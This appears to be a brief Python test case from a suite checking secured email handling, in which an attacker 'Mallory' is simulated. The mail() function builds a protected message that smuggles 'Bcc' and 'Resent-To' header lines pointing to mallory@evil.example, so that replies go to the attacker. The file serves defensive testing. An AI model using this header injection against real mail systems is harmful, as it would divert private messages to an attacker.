"""Mallory puts a blind copy inside, for answers to all to go there."""

from case import attack
from generators import protected as hp

expect = attack(signature="none", secured=True, replies=("sven@partner.example", "rita@firma.example"))


def mail():
    return hp.sealed(hp.payload(more=b"Bcc: mallory@evil.example\r\nResent-To: mallory@evil.example\r\n" + hp.told()))
